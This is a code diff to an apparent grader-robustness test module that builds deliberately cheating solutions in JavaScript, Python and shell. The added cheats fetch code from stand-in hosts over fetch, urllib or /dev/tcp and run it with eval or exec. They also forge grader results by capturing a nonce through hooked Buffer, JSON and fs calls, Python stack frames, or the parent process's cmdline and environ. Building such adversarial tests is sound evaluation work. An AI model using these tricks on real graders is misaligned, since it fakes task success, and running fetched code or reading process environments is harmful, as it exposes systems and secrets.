@@ -16,6 +16,8 @@ export const cheatNames = [
   'reads the reference',
   'writes outside',
   'gives values that equal everything',
+  'asks somebody outside',
+  'listens for the word that results begin with',
 ] as const;
 export type CheatName = (typeof cheatNames)[number];
 
@@ -41,6 +43,10 @@ const scripts: Record<CheatName, (scenario: Scenario) => string> = {
     `const fs = require('node:fs'); for (const path of [${JSON.stringify(`${scenario.folder}/checks/cases.json`)}, '../graders/javascript.cjs', '/etc/passed']) try { fs.writeFileSync(path, '[]'); } catch {}`,
   'gives values that equal everything': () =>
     'module.exports = new Proxy({}, {get: () => () => new Proxy(() => true, {get: () => () => true}), ownKeys: () => [], has: () => true});',
+  'asks somebody outside': () =>
+    "const {execFileSync} = require('node:child_process'); const ask = url => execFileSync(process.execPath, ['-e', `fetch('${url}').then(r => r.text()).then(t => console.log(t))`], {timeout: 2000}).toString(); try { module.exports = eval(ask('http://127.0.0.1:9/')); } catch { try { module.exports = eval(ask('http://203.0.113.1/')); } catch {} }",
+  'listens for the word that results begin with': () =>
+    "const {from} = Buffer; let word; const hear = text => { word ??= /^[0-9a-f]{32} /.exec(String(text))?.[0]; }; Buffer.from = (...all) => { hear(all[0]); return from(...all); }; const {stringify} = JSON; JSON.stringify = value => stringify(value?.id === undefined ? value : {id: value.id, value: true}); const fs = require('node:fs'); const {writeSync} = fs; fs.writeSync = (fd, data, ...rest) => { hear(data); return writeSync(fd, data, ...rest); }; module.exports = new Proxy({}, {get: () => () => { if (word) writeSync(3, word + '{\"end\":true}\\n'); return true; }, ownKeys: () => []});",
 };
 
 const pythons: Record<CheatName, (scenario: Scenario) => string> = {
@@ -64,6 +70,10 @@ const pythons: Record<CheatName, (scenario: Scenario) => string> = {
     `for path in (${JSON.stringify(`${scenario.folder}/checks/cases.json`)}, '../graders/python.py', '/etc/passed'):\n    try:\n        open(path, 'w').write('[]')\n    except OSError:\n        pass`,
   'gives values that equal everything': () =>
     'class Any:\n    def __eq__(self, other): return True\n    def __call__(self, *a, **k): return self\n    def __getattr__(self, name): return self\n    def __iter__(self): return iter(())\n    def __len__(self): return 1\ndef __getattr__(name): return Any()',
+  'asks somebody outside': () =>
+    "import urllib.request\nfor url in ('http://127.0.0.1:9/', 'http://203.0.113.1/'):\n    try:\n        exec(urllib.request.urlopen(url, timeout=1).read())\n    except OSError:\n        pass",
+  'listens for the word that results begin with': () =>
+    'import os, sys\nframe = sys._getframe()\nwhile frame:\n    word = frame.f_locals.get("nonce")\n    if isinstance(word, str):\n        os.write(3, (word + \' {"id":0,"value":true}\\n\').encode())\n    frame = frame.f_back',
 };
 
 const shells: Record<CheatName, (scenario: Scenario) => string> = {
@@ -83,6 +93,10 @@ const shells: Record<CheatName, (scenario: Scenario) => string> = {
   'writes outside': scenario =>
     `for path in "${scenario.folder}/checks/cases.json" ../graders/javascript.cjs /etc/passed; do echo '[]' > "$path"; done 2>/dev/null`,
   'gives values that equal everything': () => 'printf "*"',
+  'asks somebody outside': () =>
+    '(exec 5<>/dev/tcp/127.0.0.1/9; cat <&5) 2>/dev/null; timeout 1 bash -c "cat < /dev/tcp/203.0.113.1/80" 2>/dev/null',
+  'listens for the word that results begin with': () =>
+    "tr '\\\\0' ' ' < /proc/$PPID/cmdline; tr '\\\\0' '\\\\n' < /proc/$PPID/environ",
 };
 
 /** The files of a solution that cheats in this way; undefined where the way makes no sense for the scenario. */
